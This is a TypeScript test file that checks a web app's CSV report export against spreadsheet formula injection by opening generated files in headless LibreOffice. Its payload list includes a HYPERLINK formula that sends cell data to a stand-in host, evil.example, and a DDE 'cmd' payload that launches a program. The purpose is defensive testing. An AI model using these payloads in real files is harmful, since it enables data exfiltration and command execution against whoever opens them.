import { execFileSync } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  type CsvFile,
  csvHeader,
  csvLines,
  INTEGRATION_FILE,
  NOTIFICATION_FILE,
  PRODUCT_FILE,
  SUBSCRIPTION_FILE,
} from '../apps/web/src/domains/reports/csv.ts'
import { installWithApt } from '../scripts/apt.ts'

export interface SpreadsheetReport {
  /** Null: it ran. */
  skipped: string | null
  cells: number
  wrong: string[]
}

/** Values that a spreadsheet might compute, execute or split. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  ',=1+1',
  ',,-1+1',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  `=cmd|' /C calc'!A0`,
  '"=1+1',
  'say "hi", =1+1',
  'line\n=1+1',
  '\n=1+1',
  '＝1+1',
  '－1+1',
  '\u200b=1+1',
  '\ufeff+1+1',
  '\u00a0@SUM(1+1)',
  '\u00ad-1+1',
  '"',
  "it's; mine",
  'Zürich — 東京',
]

const flags = { enableBankVod: true, enableDataVerify: false, enableServiceFirst: false, enableXactus: true }
const day = { startDate: '2024-02-29', endDate: null }

function filesOf(text: string, id: number) {
  const place = { clientId: id, clientName: text, databaseId: id, databaseCode: text }
  return [
    textOf(SUBSCRIPTION_FILE, [{ ...place, ...day, id, amqGroupId: id, amqGroupName: text }]),
    textOf(INTEGRATION_FILE, [{ ...place, ...flags, enableDataFacts: false }]),
    textOf(PRODUCT_FILE, [{ ...place, vendorProductId: id, vendorCode: text, vendorName: text }]),
    textOf(NOTIFICATION_FILE, [{ ...place, id, userFullName: text, notifications: `${text}, B` }]),
  ]
}

const textOf = <Row>(file: CsvFile<Row>, rows: Row[]) => ({
  name: file.report,
  header: csvHeader(file),
  lines: csvLines(file, rows),
  cells: rows.map((row) => file.columns.map(({ value }) => valueIn(value(row)))),
})

/** Unquotes a field; cells know one kind of line end. */
const valueIn = (field: string): string =>
  (field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field).replace(/\r\n?/g, '\n')

/** Opens each report's file in LibreOffice with formulas allowed, and compares the cells. */
export async function openInSpreadsheet(): Promise<SpreadsheetReport> {
  const skipped = await missingLibreOffice()
  const report: SpreadsheetReport = { skipped, cells: 0, wrong: [] }
  if (skipped) return report
  const folder = await mkdtemp(join(tmpdir(), 'acm-torture-spreadsheet-'))
  try {
    const perPayload = PAYLOADS.map(filesOf)
    for (const [index, { name, header }] of (perPayload[0] ?? []).entries()) {
      const same = perPayload.flatMap((files) => files[index] ?? [])
      const path = join(folder, `${name}.csv`)
      await writeFile(path, header + same.map(({ lines }) => lines).join(''))
      const found = await cellsOf(path)
      const expected = [header.split(','), ...same.flatMap(({ cells }) => cells)]
      report.cells += expected.flat().length
      report.wrong.push(...differences(name, expected, found.cells))
      for (const formula of found.formulas) report.wrong.push(`${name}: a formula ${formula}`)
    }
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
  return report
}

function differences(name: string, expected: string[][], found: string[][]): string[] {
  const rows = Math.max(expected.length, found.length)
  return Array.from({ length: rows }, (_, row) => row).flatMap((row) => {
    const [wanted, seen] = [JSON.stringify(expected[row]), JSON.stringify(found[row])]
    return wanted === seen ? [] : [`${name}, line ${row + 1}: ${wanted} became ${seen}`]
  })
}

/** Comma, double quote, UTF-8, from line 1, only numbers detected, formulas evaluated: the most dangerous import. */
const IMPORT = 'Text - txt - csv (StarCalc):44,34,76,1,,1033,false,false,false,false,false,0,true'

async function cellsOf(path: string): Promise<{ cells: string[][]; formulas: string[] }> {
  const folder = join(path, '..')
  const command = ['--headless', `-env:UserInstallation=file://${folder}/profile`, `--infilter=${IMPORT}`]
  execFileSync('soffice', [...command, '--convert-to', 'fods', '--outdir', folder, path], { stdio: 'ignore' })
  const xml = await readFile(path.replace(/csv$/, 'fods'), 'utf8')
  const sheet = /<table:table [\s\S]*<\/table:table>/.exec(xml)?.[0] ?? ''
  const rows = [...sheet.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row = '']) =>
    [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(
      ([, attributes = '', inside = '']) => {
        const repeated = Number(/number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1)
        return Array.from({ length: repeated }, () => textIn(inside))
      },
    ),
  )
  return { cells: rows, formulas: sheet.match(/table:formula="[^"]*"/g) ?? [] }
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }

const textIn = (xml: string): string =>
  xml
    .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count) => ' '.repeat(Number(count ?? 1)))
    .replace(/<text:tab\/>/g, '\t')
    .replace(/<\/text:p>\s*<text:p>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&(\w+);/g, (_, name: string) => ENTITIES[name] ?? '')
    .trim()

async function missingLibreOffice(): Promise<string | null> {
  if (isInstalled()) return null
  const why = await installWithApt(['libreoffice-calc'])
  return why ?? (isInstalled() ? null : 'LibreOffice could not be installed')
}

function isInstalled(): boolean {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
}
